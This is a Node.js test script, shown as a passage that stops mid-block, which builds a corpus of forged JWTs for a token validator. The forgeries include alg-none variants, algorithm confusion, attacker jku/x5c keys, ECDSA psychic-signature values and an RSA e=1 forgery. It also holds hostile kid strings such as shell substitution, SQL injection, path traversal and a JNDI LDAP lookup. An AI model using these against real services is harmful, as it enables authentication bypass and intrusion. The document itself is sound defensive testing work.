#!/usr/bin/env node
// Makes the attack corpus for mcpauth's token validation (issue 8): tokens built to
// exploit RFC 8725's threats and the known JOSE library CVE classes, each with the
// exact reason code mcpauth must refuse it with. Tokens are made with the npm `jose`
// library where it can make them, and as hand-built byte strings signed with
// node:crypto where an attack needs bytes no well-behaved library writes (duplicate
// members, crit, padded base64url, forged ECDSA values, hand-encoded RSA blocks).
//
//   node tests/attack/make_attack_corpus.mjs [--out DIR]
//
// (jose is loaded from tests/node/node_modules, where tools/setup installs it.)
//
// DIR defaults to tests/attack/corpus (the checked-in copy). It holds
//   tokens.json          the cases: {name, category, description, token, expected_reason,
//                        [resource], [mutate]}; "mutate" asks the C++ test to derive
//                        the attack from the token itself (every bit flip, every
//                        truncation of its signature), so the corpus stays small
//   jwks-a.json          issuer A's published keys (one per algorithm)
//   jwks-b.json          issuer B's keys (for issuer mix-up)
//   jwks-weak.json       issuer W's set: one good key plus RSA-1024, e=1, use "enc",
//                        key_ops encrypt, an off-curve EC point, a symmetric key and a
//                        duplicated kid, every one of which must be ignored
//   attacker-jwks.json   the attacker's key set, which tokens advertise with jku/x5u;
//                        the test serves it on ATTACKER_ORIGIN and fails if anything
//                        ever connects there
//
// Time is frozen at NOW; the test sets its clock to it. Reasons follow the order of
// checks in services/token_validation/validator.cc (see make_jose_fixtures.mjs).

import { execFileSync } from 'node:child_process';
import { createHash, createPrivateKey, createPublicKey, generateKeyPairSync, sign as nodeSign, constants } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const here = dirname(fileURLToPath(import.meta.url));
const nodeDir = resolve(here, '../node');
const { CompactEncrypt, FlattenedSign, GeneralSign, SignJWT, UnsecuredJWT, exportJWK } =
  createRequire(join(nodeDir, 'package.json'))('jose');
const { values: options } = parseArgs({
  options: { out: { type: 'string', default: resolve(here, 'corpus') } },
});
const outDir = resolve(options.out);
const joseVersion = JSON.parse(readFileSync(join(nodeDir, 'node_modules/jose/package.json'), 'utf8')).version;

const NOW = 1767225600; // 2026-01-01T00:00:00Z
const ISSUER_A = 'https://as.attack.test';
const ISSUER_B = 'https://b.attack.test';
const ISSUER_W = 'https://weak.attack.test';
const RESOURCE = 'https://mcp.attack.test/mcp';
// A loopback address no other test uses, on a fixed port: jku/x5u/kid URLs in signed
// tokens cannot name a port picked at test time. The test listens here.
const ATTACKER_ORIGIN = 'http://127.83.19.7:18443';

const b64u = (bytes) => Buffer.from(bytes).toString('base64url');
const b64uJson = (text) => b64u(Buffer.from(text, 'utf8'));
const fromB64u = (s) => Buffer.from(s, 'base64url');

// ---- keys ------------------------------------------------------------------

const ALG_SPEC = {
  ES256: { kind: 'ec', namedCurve: 'P-256', hash: 'sha256' },
  ES384: { kind: 'ec', namedCurve: 'P-384', hash: 'sha384' },
  ES512: { kind: 'ec', namedCurve: 'P-521', hash: 'sha512' },
  RS256: { kind: 'rsa', bits: 2048, hash: 'sha256' },
  PS256: { kind: 'rsa', bits: 2048, hash: 'sha256', pss: true },
  EdDSA: { kind: 'ed25519', hash: null },
};

function generate(alg, bits) {
  const spec = ALG_SPEC[alg];
  if (spec.kind === 'ec') return generateKeyPairSync('ec', { namedCurve: spec.namedCurve });
  if (spec.kind === 'rsa') return generateKeyPairSync('rsa', { modulusLength: bits ?? spec.bits });
  return generateKeyPairSync('ed25519');
}

async function makeKey(alg, kid, { bits, extra = {} } = {}) {
  const { publicKey, privateKey } = generate(alg, bits);
  const jwk = { ...(await exportJWK(publicKey)), kid, alg, use: 'sig', ...extra };
  for (const [k, v] of Object.entries(jwk)) if (v === undefined) delete jwk[k];
  return { alg, kid, publicKey, privateKey, jwk };
}

const A = {};
for (const alg of Object.keys(ALG_SPEC)) A[alg] = await makeKey(alg, `a-${alg.toLowerCase()}`);
const B = await makeKey('ES256', 'b-es256');
const attacker = await makeKey('ES256', 'attacker-es256');
const attackerRsa = await makeKey('RS256', 'attacker-rs256');

// Issuer W publishes one good key and a row of keys that must never be used.
const W = {
  good: await makeKey('ES256', 'w-good'),
  rsa1024: await makeKey('RS256', 'w-rsa1024', { bits: 1024 }),
  e1: await makeKey('RS256', 'w-e1'),
  enc: await makeKey('RS256', 'w-enc', { extra: { use: 'enc', alg: undefined } }),
  keyOpsEncrypt: await makeKey('RS256', 'w-keyops-encrypt', { extra: { use: undefined, key_ops: ['encrypt'] } }),
  offCurve: await makeKey('ES256', 'w-offcurve'),
  dupFirst: await makeKey('ES256', 'w-dup'),
  dupSecond: await makeKey('ES256', 'w-dup'),
};
// e = 1: RSA "verification" is then the identity, so the PKCS#1 block itself is a
// valid signature for any message (forged below).
W.e1.jwk.e = 'AQ';
// An invalid-curve point: y changed, so (x, y) is not on P-256.
{
  const y = fromB64u(W.offCurve.jwk.y);
  y[y.length - 1] ^= 0x01;
  W.offCurve.jwk.y = b64u(y);
}
const OCT_SECRET = Buffer.from('symmetric-secret-in-a-public-set!!', 'utf8');
const octJwk = { kty: 'oct', kid: 'w-oct', k: b64u(OCT_SECRET), alg: 'HS256' };

const jwksA = { keys: Object.values(A).map((k) => k.jwk) };
const jwksB = { keys: [B.jwk] };
const jwksWeak = {
  keys: [W.good.jwk, W.rsa1024.jwk, W.e1.jwk, W.enc.jwk, W.keyOpsEncrypt.jwk, W.offCurve.jwk, octJwk,
         W.dupFirst.jwk, W.dupSecond.jwk],
};
const attackerJwks = { keys: [attacker.jwk, attackerRsa.jwk] };

// A self-signed certificate for the attacker's key, for x5c (made by the openssl CLI).
function attackerCertificateDer() {
  const dir = mkdtempSync(join(tmpdir(), 'mcpauth-attack-'));
  try {
    writeFileSync(join(dir, 'key.pem'), attacker.privateKey.export({ type: 'pkcs8', format: 'pem' }));
    execFileSync('openssl', ['req', '-x509', '-new', '-key', join(dir, 'key.pem'), '-subj', '/CN=as.attack.test',
                             '-days', '3650', '-outform', 'DER', '-out', join(dir, 'cert.der')], { stdio: 'ignore' });
    return readFileSync(join(dir, 'cert.der'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
const attackerCert = attackerCertificateDer();

// ---- signing ---------------------------------------------------------------

function claims(overrides = {}) {
  const base = {
    iss: ISSUER_A, sub: 'user-1234', aud: RESOURCE, client_id: 'attack-client', scope: 'read',
    jti: 'jti', iat: NOW, nbf: NOW, exp: NOW + 3600,
  };
  const out = { ...base, ...overrides };
  for (const [k, v] of Object.entries(out)) if (v === undefined) delete out[k];
  return out;
}

let serial = 0;
// jose's JWT signer; `header` is merged over {alg, typ, kid} (undefined drops a member).
async function jwt(key, payload, header = {}) {
  const h = { alg: key.alg, typ: 'at+jwt', kid: key.kid, ...header };
  for (const [k, v] of Object.entries(h)) if (v === undefined) delete h[k];
  return new SignJWT({ ...payload, jti: `attack-${++serial}` }).setProtectedHeader(h).sign(key.privateKey);
}

// Raw signature bytes over `input` with node:crypto, in JWS form.
function rawSign(key, alg, input) {
  const spec = ALG_SPEC[alg];
  const data = Buffer.from(input, 'ascii');
  if (spec.kind === 'ec') return nodeSign(spec.hash, data, { key: key.privateKey, dsaEncoding: 'ieee-p1363' });
  if (spec.kind === 'rsa') {
    return nodeSign(spec.hash, data, spec.pss
      ? { key: key.privateKey, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 }
      : key.privateKey);
  }
  return nodeSign(null, data, key.privateKey);
}

// A hand-built token: header and payload given as exact JSON text (so duplicate
// members and odd spellings survive), signed by `key` unless `signature` is given.
function handBuilt(headerText, payloadText, key, { alg = key?.alg, signature } = {}) {
  const input = `${b64uJson(headerText)}.${b64uJson(payloadText)}`;
  const sig = signature ?? (key ? rawSign(key, alg, input) : Buffer.alloc(0));
  return `${input}.${b64u(sig)}`;
}
const json = (o) => JSON.stringify(o);
const headerOf = (key, extra = {}) => json({ alg: key.alg, typ: 'at+jwt', kid: key.kid, ...extra });

// Replaces the signature of `token` with `bytes`.
const withSignature = (token, bytes) => `${token.slice(0, token.lastIndexOf('.') + 1)}${b64u(bytes)}`;

// ---- cases -----------------------------------------------------------------

const cases = [];
function add(category, name, token, expected_reason, description, extra = {}) {
  if (cases.some((c) => c.name === name)) throw new Error(`duplicate case ${name}`);
  cases.push({ name, category, description, token, expected_reason, ...extra });
}

// Baselines: without them every refusal below could be a broken setup.
for (const key of [...Object.values(A)]) {
  add('baseline', `valid-${key.alg}`, await jwt(key, claims()), 'REASON_OK', `issuer A, ${key.alg}, by jose`,
      { mutate: ['signature-bit-flips', 'signature-truncations'] });
}
add('baseline', 'valid-issuer-b', await jwt(B, claims({ iss: ISSUER_B })), 'REASON_OK', 'issuer B, ES256');
add('baseline', 'valid-issuer-w-good-key', await jwt(W.good, claims({ iss: ISSUER_W })), 'REASON_OK',
    'issuer W\'s one good key still works next to the weak ones');

// alg "none" in every spelling, with an empty signature and with a real one.
const realEsSig = fromB64u((await jwt(A.ES256, claims())).split('.')[2]);
add('alg-none', 'alg-none-jose-unsecured', new UnsecuredJWT(claims()).encode(), 'REASON_ALG_UNSUPPORTED',
    'jose UnsecuredJWT: {"alg":"none"} and an empty signature');
for (const [label, spelling] of [['none', 'none'], ['None', 'None'], ['NONE', 'NONE'], ['nOnE', 'nOnE'],
                                 ['trailing-space', 'none '], ['leading-space', ' none'], ['nul-suffix', 'none\u0000'],
                                 ['empty', '']]) {
  add('alg-none', `alg-none-${label}-empty-signature`, handBuilt(json({ alg: spelling, typ: 'at+jwt' }), json(claims()), null),
      'REASON_ALG_UNSUPPORTED', `alg ${JSON.stringify(spelling)}, empty signature`);
  add('alg-none', `alg-none-${label}-with-signature`,
      handBuilt(json({ alg: spelling, typ: 'at+jwt', kid: A.ES256.kid }), json(claims()), null, { signature: realEsSig }),
      'REASON_ALG_UNSUPPORTED', `alg ${JSON.stringify(spelling)} with a real ES256 signature attached`);
}
add('alg-none', 'alg-none-json-escaped', handBuilt('{"alg":"non\\u0065","typ":"at+jwt"}', json(claims()), null),
    'REASON_ALG_UNSUPPORTED', 'alg written as "non\\u0065" (JSON escape for "none"), empty signature');
add('alg-none', 'alg-none-no-signature-segment', handBuilt(json({ alg: 'none' }), json(claims()), null).slice(0, -1),
    'REASON_JWT_MALFORMED', 'alg none as two segments (no trailing dot)');
add('alg-none', 'alg-missing', handBuilt(json({ typ: 'at+jwt', kid: A.ES256.kid }), json(claims()), A.ES256, { alg: 'ES256' }),
    'REASON_ALG_MISSING', 'no alg member, a valid ES256 signature');
add('alg-none', 'alg-null', handBuilt(json({ alg: null, kid: A.ES256.kid }), json(claims()), A.ES256, { alg: 'ES256' }),
    'REASON_HEADER_PARAM_INVALID', 'alg null');
add('alg-none', 'alg-array', handBuilt(json({ alg: ['ES256'], kid: A.ES256.kid }), json(claims()), A.ES256, { alg: 'ES256' }),
    'REASON_HEADER_PARAM_INVALID', 'alg ["ES256"]');
add('alg-none', 'alg-lowercase-es256', handBuilt(json({ alg: 'es256', kid: A.ES256.kid }), json(claims()), A.ES256, { alg: 'ES256' }),
    'REASON_ALG_UNSUPPORTED', 'alg "es256": algorithm names are case-sensitive');

// Algorithm confusion: HMAC keyed with the issuer's public key bytes.
const hsSecrets = {
  'rsa-pem-spki': Buffer.from(A.RS256.publicKey.export({ type: 'spki', format: 'pem' })),
  'rsa-pem-pkcs1': Buffer.from(A.RS256.publicKey.export({ type: 'pkcs1', format: 'pem' })),
  'rsa-der-spki': A.RS256.publicKey.export({ type: 'spki', format: 'der' }),
  'rsa-jwk-json': Buffer.from(json(A.RS256.jwk)),
  'rsa-modulus': fromB64u(A.RS256.jwk.n),
  'ec-pem-spki': Buffer.from(A.ES256.publicKey.export({ type: 'spki', format: 'pem' })),
  'ec-jwk-x': fromB64u(A.ES256.jwk.x),
  'ed25519-raw': fromB64u(A.EdDSA.jwk.x),
};
for (const [what, secret] of Object.entries(hsSecrets)) {
  for (const alg of ['HS256', 'HS384', 'HS512']) {
    const kid = what.startsWith('rsa') ? A.RS256.kid : what.startsWith('ec') ? A.ES256.kid : A.EdDSA.kid;
    const token = await new SignJWT(claims({ jti: `hs-${++serial}` }))
      .setProtectedHeader({ alg, typ: 'at+jwt', kid }).sign(new Uint8Array(secret));
    add('alg-confusion', `${alg}-keyed-with-${what}`, token, 'REASON_ALG_UNSUPPORTED',
        `${alg} (jose) keyed with issuer A's public key as ${what}, kid naming that key`);
  }
}
add('alg-confusion', 'HS256-keyed-with-oct-key-in-jwks',
    await new SignJWT(claims({ iss: ISSUER_W })).setProtectedHeader({ alg: 'HS256', kid: 'w-oct' }).sign(new Uint8Array(OCT_SECRET)),
    'REASON_ALG_UNSUPPORTED', 'issuer W publishes a symmetric "oct" key; HS256 with it is still never accepted');
add('alg-confusion', 'RS256-header-ES256-key', handBuilt(headerOf(A.ES256, { alg: 'RS256' }), json(claims()), A.ES256, { alg: 'ES256' }),
    'REASON_KEY_ALG_MISMATCH', 'alg RS256 naming the EC key by kid (signature made with ES256)');
add('alg-confusion', 'PS256-signature-as-RS256', handBuilt(headerOf(A.PS256, { alg: 'RS256' }), json(claims()), A.PS256, { alg: 'PS256' }),
    'REASON_KEY_ALG_MISMATCH', 'a PSS signature presented as RS256 under the PS256 key (whose alg pins PS256)');
add('alg-confusion', 'ES384-header-ES256-key', handBuilt(headerOf(A.ES256, { alg: 'ES384' }), json(claims()), A.ES256, { alg: 'ES256' }),
    'REASON_KEY_ALG_MISMATCH', 'alg ES384 naming the P-256 key');

// Embedded and remote keys: jwk, jku, x5u, x5c must never be used or fetched.
const attackerUrl = (path) => `${ATTACKER_ORIGIN}${path}`;
const embedded = {
  'jwk-attacker-kid': { jwk: attacker.jwk },
  'jwk-real-kid': { jwk: { ...attacker.jwk, kid: A.ES256.kid }, kid: A.ES256.kid },
  'jwk-no-kid': { jwk: attacker.jwk, kid: undefined },
  'jku-attacker-kid': { jku: attackerUrl('/jwks.json') },
  'jku-real-kid': { jku: attackerUrl('/jwks.json'), kid: A.ES256.kid },
  'jku-no-kid': { jku: attackerUrl('/jwks.json'), kid: undefined },
  'x5u-attacker-kid': { x5u: attackerUrl('/cert.pem') },
  'x5u-real-kid': { x5u: attackerUrl('/cert.pem'), kid: A.ES256.kid },
  'x5c-attacker-kid': { x5c: [attackerCert.toString('base64')] },
  'x5c-real-kid': { x5c: [attackerCert.toString('base64')], kid: A.ES256.kid },
  'x5c-no-kid': { x5c: [attackerCert.toString('base64')], kid: undefined },
  'all-of-them-real-kid': { jwk: attacker.jwk, jku: attackerUrl('/jwks.json'), x5u: attackerUrl('/cert.pem'),
                            x5c: [attackerCert.toString('base64')], kid: A.ES256.kid },
};
for (const [name, header] of Object.entries(embedded)) {
  const kid = 'kid' in header ? header.kid : attacker.kid;
  const expected = kid === undefined ? 'REASON_SIGNATURE_INVALID'
    : kid === attacker.kid ? 'REASON_KID_UNKNOWN' : 'REASON_SIGNATURE_INVALID';
  add('embedded-keys', `embedded-${name}`, await jwt(attacker, claims(), { ...header, kid }), expected,
      `signed by the attacker's key; header ${Object.keys(header).join(', ')} points at it`);
}
add('embedded-keys', 'jku-attacker-rsa', await jwt(attackerRsa, claims(), { jku: attackerUrl('/jwks.json'), kid: A.RS256.kid }),
    'REASON_SIGNATURE_INVALID', 'RS256 by the attacker under issuer A\'s RS256 kid, jku to the attacker set');
add('embedded-keys', 'kid-is-attacker-url', await jwt(attacker, claims(), { kid: attackerUrl('/jwks.json') }),
    'REASON_KID_UNKNOWN', 'kid holding a URL of the attacker\'s key set');

// kid injection: the real key signs, only the kid is hostile.
const hostileKids = {
  'path-traversal': '../../../../../../etc/passwd',
  'path-traversal-encoded': '..%2f..%2f..%2fetc%2fpasswd',
  'absolute-path': '/dev/zero',
  'file-url': 'file:///etc/passwd',
  'sql-injection': "a-es256' OR '1'='1",
  'sql-comment': "x' UNION SELECT 'secret' --",
  'shell-substitution': '$(cat /etc/passwd)',
  'shell-backticks': '`id`',
  'jndi-lookup': `\${jndi:ldap://127.83.19.7:18443/a}`,
  'nul-suffix': `${A.ES256.kid}\u0000`,
  'trailing-space': `${A.ES256.kid} `,
  'case-changed': A.ES256.kid.toUpperCase(),
  'crlf-injection': `${A.ES256.kid}\r\nX-Injected: 1`,
  'redis-key-injection': 'mcpauth:v1:jwks:*',
  'empty': '',
  '10kb': 'k'.repeat(10 * 1024),
};
for (const [name, kid] of Object.entries(hostileKids)) {
  add('kid', `kid-${name}`, await jwt(A.ES256, claims(), { kid }), 'REASON_KID_UNKNOWN',
      `issuer A's real ES256 key signs; kid ${JSON.stringify(kid.length > 40 ? `${kid.slice(0, 20)}… (${kid.length} bytes)` : kid)}`);
}
for (const [name, kid] of Object.entries({ number: 1, null: null, array: [A.ES256.kid], object: { kid: A.ES256.kid } })) {
  add('kid', `kid-${name}`, handBuilt(json({ alg: 'ES256', kid }), json(claims()), A.ES256), 'REASON_HEADER_PARAM_INVALID',
      `kid as ${name}`);
}

// crit.
for (const [name, crit, extra, reason] of [
  ['unknown', ['https://attack.test/ext'], { 'https://attack.test/ext': true }, 'REASON_CRIT_UNSUPPORTED'],
  ['exp', ['exp'], { exp: NOW + 3600 }, 'REASON_CRIT_UNSUPPORTED'],
  ['b64-false', ['b64'], { b64: false }, 'REASON_CRIT_UNSUPPORTED'],
  ['names-absent-param', ['x-missing'], {}, 'REASON_CRIT_UNSUPPORTED'],
  ['empty', [], {}, 'REASON_HEADER_PARAM_INVALID'],
  ['string', 'exp', {}, 'REASON_HEADER_PARAM_INVALID'],
  ['number-member', [7], {}, 'REASON_HEADER_PARAM_INVALID'],
]) {
  add('crit', `crit-${name}`, handBuilt(headerOf(A.ES256, { crit, ...extra }), json(claims()), A.ES256), reason,
      `crit ${JSON.stringify(crit)}`);
}
add('crit', 'b64-false-without-crit', handBuilt(headerOf(A.ES256, { b64: false }), json(claims()), A.ES256),
    'REASON_HEADER_PARAM_INVALID', 'RFC 7797 b64:false without crit');

// Other serializations.
add('serialization', 'jwe-compact-rsa-oaep',
    await new CompactEncrypt(Buffer.from(json(claims()))).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM' })
      .encrypt(A.RS256.publicKey),
    'REASON_JWE_UNSUPPORTED', 'a JWE (jose CompactEncrypt) encrypted to issuer A\'s RSA key');
add('serialization', 'jwe-compact-dir',
    await new CompactEncrypt(Buffer.from(json(claims()))).setProtectedHeader({ alg: 'dir', enc: 'A128GCM' })
      .encrypt(new Uint8Array(16)),
    'REASON_JWE_UNSUPPORTED', 'a JWE with alg "dir" and an all-zero key');
const flattened = await new FlattenedSign(Buffer.from(json(claims())))
  .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid: A.ES256.kid }).sign(A.ES256.privateKey);
add('serialization', 'jws-json-flattened', json(flattened), 'REASON_JWS_JSON_UNSUPPORTED',
    'JWS JSON flattened serialization (jose FlattenedSign) of a valid token');
const general = await new GeneralSign(Buffer.from(json(claims())))
  .addSignature(A.ES256.privateKey).setProtectedHeader({ alg: 'ES256', kid: A.ES256.kid })
  .addSignature(attacker.privateKey).setProtectedHeader({ alg: 'ES256', kid: attacker.kid }).sign();
add('serialization', 'jws-json-general', json(general), 'REASON_JWS_JSON_UNSUPPORTED',
    'JWS JSON general serialization with a good and an attacker signature');
add('serialization', 'jws-json-flattened-leading-space', ` ${json(flattened)}`, 'REASON_JWT_MALFORMED',
    'the flattened JSON with a leading space (no longer starts with "{")');
{
  const good = await jwt(A.ES256, claims());
  add('serialization', 'four-segments', `${good}.e30`, 'REASON_JWT_MALFORMED', 'a fourth segment appended');
  add('serialization', 'six-segments', `${good}.e30.e30.e30`, 'REASON_JWT_MALFORMED', 'six segments');
  add('serialization', 'bearer-prefix-inside-token', `Bearer ${good}`, 'REASON_HEADER_BAD_BASE64',
      'the scheme pasted into the token');
}

// Duplicate member names that would change the outcome.
const dupPayloads = {
  'aud-wrong-then-right': `{"iss":"${ISSUER_A}","sub":"u","aud":"https://other.test","aud":"${RESOURCE}","exp":${NOW + 3600}}`,
  'exp-past-then-future': `{"iss":"${ISSUER_A}","sub":"u","aud":"${RESOURCE}","exp":${NOW - 3600},"exp":${NOW + 3600}}`,
  'iss-unknown-then-known': `{"iss":"https://evil.test","iss":"${ISSUER_A}","sub":"u","aud":"${RESOURCE}","exp":${NOW + 3600}}`,
  'sub-user-then-admin': `{"iss":"${ISSUER_A}","sub":"user","sub":"admin","aud":"${RESOURCE}","exp":${NOW + 3600}}`,
  'scope-read-then-admin': `{"iss":"${ISSUER_A}","sub":"u","scope":"read","scope":"admin","aud":"${RESOURCE}","exp":${NOW + 3600}}`,
  'escaped-name-aud': `{"iss":"${ISSUER_A}","sub":"u","aud":"https://other.test","a\\u0075d":"${RESOURCE}","exp":${NOW + 3600}}`,
  'nested-cnf-jkt': `{"iss":"${ISSUER_A}","sub":"u","aud":"${RESOURCE}","exp":${NOW + 3600},"cnf":{"jkt":"a","jkt":"b"}}`,
};
for (const [name, payload] of Object.entries(dupPayloads)) {
  add('duplicates', `duplicate-claim-${name}`, handBuilt(headerOf(A.ES256), payload, A.ES256), 'REASON_DUPLICATE_MEMBER',
      `payload ${payload.length > 120 ? payload.slice(0, 120) + '…' : payload}, validly signed`);
}
for (const [name, header] of Object.entries({
  'alg-none-then-es256': `{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"${A.ES256.kid}"}`,
  'alg-es256-then-none': `{"alg":"ES256","alg":"none","typ":"at+jwt","kid":"${A.ES256.kid}"}`,
  'kid-twice': `{"alg":"ES256","kid":"attacker-es256","kid":"${A.ES256.kid}"}`,
  'typ-twice': `{"alg":"ES256","typ":"dpop+jwt","typ":"at+jwt","kid":"${A.ES256.kid}"}`,
})) {
  add('duplicates', `duplicate-header-${name}`, handBuilt(header, json(claims()), A.ES256, { alg: 'ES256' }),
      'REASON_DUPLICATE_MEMBER', `header ${header}`);
}

// Padded and non-canonical base64url.
{
  const good = await jwt(A.ES256, claims());
  const [h, p, s] = good.split('.');
  const pad = (x) => x + '='.repeat((4 - (x.length % 4)) % 4);
  const std = (x) => Buffer.from(x, 'base64url').toString('base64');
  const spareBits = (x) => {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    return x.slice(0, -1) + alphabet[alphabet.indexOf(x.at(-1)) ^ 1];
  };
  add('base64url', 'header-padded', `${h}==.${p}.${s}`, 'REASON_HEADER_BAD_BASE64', 'header with "==" appended');
  add('base64url', 'payload-padded', `${h}.${p}==.${s}`, 'REASON_PAYLOAD_BAD_BASE64', 'payload with "==" appended');
  // An ES256 signature is 64 bytes: 86 characters, which RFC 4648 pads with "==".
  add('base64url', 'signature-padded', `${h}.${p}.${pad(s)}`, 'REASON_SIGNATURE_BAD_BASE64',
      'signature with its RFC 4648 padding');
  add('base64url', 'signature-standard-alphabet', `${h}.${p}.${std(s)}`,
      /[+/=]/.test(std(s)) ? 'REASON_SIGNATURE_BAD_BASE64' : 'REASON_OK', 'signature in standard base64 (+, /, =)');
  add('base64url', 'signature-spare-bits', `${h}.${p}.${spareBits(s)}`, 'REASON_SIGNATURE_BAD_BASE64',
      'signature\'s last character with a spare bit set (decodes to the same bytes in lenient decoders)');
  add('base64url', 'header-whitespace', `${h.slice(0, 4)} ${h.slice(4)}.${p}.${s}`, 'REASON_HEADER_BAD_BASE64', 'a space inside the header');
  add('base64url', 'payload-newline', `${h}.${p.slice(0, 10)}\n${p.slice(10)}.${s}`, 'REASON_PAYLOAD_BAD_BASE64', 'a newline inside the payload');
  add('base64url', 'signature-tab', `${h}.${p}.${s.slice(0, 8)}\t${s.slice(8)}`, 'REASON_SIGNATURE_BAD_BASE64', 'a tab inside the signature');
  add('base64url', 'header-empty', `.${p}.${s}`, 'REASON_HEADER_BAD_BASE64', 'empty header segment');
  add('base64url', 'payload-stray-character', `${h}.${p}${p.length % 4 === 0 ? 'A' : '%'}.${s}`, 'REASON_PAYLOAD_BAD_BASE64',
      'a stray character appended to the payload');
  add('base64url', 'signature-empty', `${h}.${p}.`, 'REASON_SIGNATURE_MALFORMED', 'empty signature on an ES256 token');
  // Header whose base64url needs spare bits: re-encode with a flipped spare bit.
  const oddHeader = b64uJson(headerOf(A.ES256, { x: 'a' }));
  const oddLen = oddHeader.length % 4 === 0 ? b64uJson(headerOf(A.ES256, { x: 'ab' })) : oddHeader;
  add('base64url', 'header-spare-bits', `${spareBits(oddLen)}.${p}.${s}`, 'REASON_HEADER_BAD_BASE64',
      'header\'s last character with a spare bit set');
  add('base64url', 'payload-utf8-bom', handBuilt(headerOf(A.ES256), `\ufeff${json(claims())}`, A.ES256),
      'REASON_PAYLOAD_BAD_JSON', 'payload JSON preceded by a UTF-8 byte order mark');
  add('base64url', 'payload-invalid-utf8',
      (() => {
        const input = `${b64uJson(headerOf(A.ES256))}.${b64u(Buffer.concat([Buffer.from(`{"iss":"${ISSUER_A}","sub":"`), Buffer.from([0xc3, 0x28]), Buffer.from(`","aud":"${RESOURCE}","exp":${NOW + 3600}}`)]))}`;
        return `${input}.${b64u(rawSign(A.ES256, 'ES256', input))}`;
      })(),
      'REASON_PAYLOAD_BAD_JSON', 'payload with an invalid UTF-8 sequence inside a string, validly signed');
}

// ECDSA signature values.
const ORDERS = {
  ES256: 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551',
  ES384: 'ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973',
  ES512: '01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409',
};
const toFixed = (hex, size) => Buffer.from(BigInt(`0x${hex}`).toString(16).padStart(size * 2, '0'), 'hex');
for (const alg of ['ES256', 'ES384', 'ES512']) {
  const size = { ES256: 32, ES384: 48, ES512: 66 }[alg];
  const n = BigInt(`0x${ORDERS[alg]}`);
  const good = await jwt(A[alg], claims());
  const goodSig = fromB64u(good.split('.')[2]);
  const r = goodSig.subarray(0, size), s = goodSig.subarray(size);
  const hex = (v) => v.toString(16);
  const variants = {
    'r-s-zero': [Buffer.alloc(size), Buffer.alloc(size)],
    'r-zero': [Buffer.alloc(size), s],
    's-zero': [r, Buffer.alloc(size)],
    'r-s-order': [toFixed(hex(n), size), toFixed(hex(n), size)],
    'r-order': [toFixed(hex(n), size), s],
    's-order-plus-one': [r, toFixed(hex(n + 1n), size)],
    'r-plus-order': [toFixed(hex(BigInt(`0x${r.toString('hex')}`) + n), size).subarray(-size), s],
    'r-s-all-ones': [Buffer.alloc(size, 0xff), Buffer.alloc(size, 0xff)],
    'r-s-one': [toFixed('1', size), toFixed('1', size)],
  };
  for (const [name, [rr, ss]] of Object.entries(variants)) {
    add('ecdsa', `${alg}-${name}`, withSignature(good, Buffer.concat([rr, ss])), 'REASON_SIGNATURE_INVALID',
        `${alg}: ${name.replaceAll('-', ' ')} (CVE-2022-21449 "psychic signatures" class)`);
  }
  const der = nodeSign(ALG_SPEC[alg].hash, Buffer.from(good.slice(0, good.lastIndexOf('.')), 'ascii'),
                       { key: A[alg].privateKey, dsaEncoding: 'der' });
  add('ecdsa', `${alg}-der-encoded`, withSignature(good, der), 'REASON_SIGNATURE_MALFORMED',
      `${alg}: a valid signature in ASN.1 DER instead of raw r‖s`);
}

// RSA: e=1 forgery and weak keys in the JWKS (issuer W).
function pkcs1v15Block(hashName, message, modulusBytes) {
  const prefixes = { sha256: '3031300d060960864801650304020105000420' };
  const t = Buffer.concat([Buffer.from(prefixes[hashName], 'hex'), createHash(hashName).update(message).digest()]);
  return Buffer.concat([Buffer.from([0x00, 0x01]), Buffer.alloc(modulusBytes - t.length - 3, 0xff), Buffer.from([0x00]), t]);
}
{
  const input = `${b64uJson(json({ alg: 'RS256', typ: 'at+jwt', kid: 'w-e1' }))}.${b64uJson(json(claims({ iss: ISSUER_W })))}`;
  add('weak-keys', 'rsa-e1-forged', `${input}.${b64u(pkcs1v15Block('sha256', Buffer.from(input), 256))}`, 'REASON_KID_UNKNOWN',
      'kid w-e1 has e = 1; the signature is the PKCS#1 block itself, which "verifies" under e = 1');
}
for (const [name, key] of [['rsa1024', W.rsa1024], ['enc', W.enc], ['keyops-encrypt', W.keyOpsEncrypt],
                           ['offcurve', W.offCurve], ['dup', W.dupFirst]]) {
  // jose refuses to sign with RSA-1024 itself; node:crypto does it.
  const token = name === 'rsa1024' ? handBuilt(headerOf(key), json(claims({ iss: ISSUER_W })), key)
    : await jwt(key, claims({ iss: ISSUER_W }), { alg: key.alg });
  add('weak-keys', `weak-key-${name}`, token, 'REASON_KID_UNKNOWN',
      `signed by issuer W's key ${key.kid}, which the set publishes but must never be used`);
}
add('weak-keys', 'weak-key-rsa1024-no-kid', handBuilt(json({ alg: 'RS256', typ: 'at+jwt' }), json(claims({ iss: ISSUER_W })), W.rsa1024),
    'REASON_NO_MATCHING_KEY', 'RSA-1024 signature without kid: no usable RSA key in issuer W\'s set');

// Signatures: the baselines above carry mutate: every bit flip and truncation.
{
  const good = await jwt(A.RS256, claims());
  const sig = fromB64u(good.split('.')[2]);
  add('signature', 'RS256-signature-plus-one-byte', withSignature(good, Buffer.concat([sig, Buffer.from([0])])),
      'REASON_SIGNATURE_MALFORMED', 'RS256 signature one byte longer than the modulus');
  add('signature', 'RS256-signature-leading-zero-stripped', withSignature(good, sig[0] === 0 ? sig.subarray(1) : Buffer.concat([Buffer.from([0]), sig.subarray(1)])),
      sig[0] === 0 ? 'REASON_SIGNATURE_MALFORMED' : 'REASON_SIGNATURE_INVALID', 'RS256 signature with its first byte zeroed or stripped');
